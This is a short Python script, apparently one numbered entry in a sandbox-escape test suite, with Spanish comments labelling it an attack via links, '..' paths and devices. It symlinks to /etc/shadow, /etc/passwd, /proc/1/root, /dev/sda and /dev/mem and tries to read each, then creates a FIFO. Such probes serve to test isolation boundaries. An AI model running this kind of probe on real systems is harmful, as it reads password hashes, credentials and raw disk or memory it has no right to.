# attack: enlaces, rutas con .. y dispositivos desde dentro
# entry: 20

import os
for target in ("/etc/passwd", "/etc/shadow", "/proc/1/root", "/dev/sda", "/dev/mem", "../../../../root"):
    try:
        os.symlink(target, "enlace")
        print(target, open("enlace", errors="replace").read(200))
    except OSError as error:
        print(target, error)
    finally:
        if os.path.lexists("enlace"):
            os.unlink("enlace")
os.mkfifo("tubo")
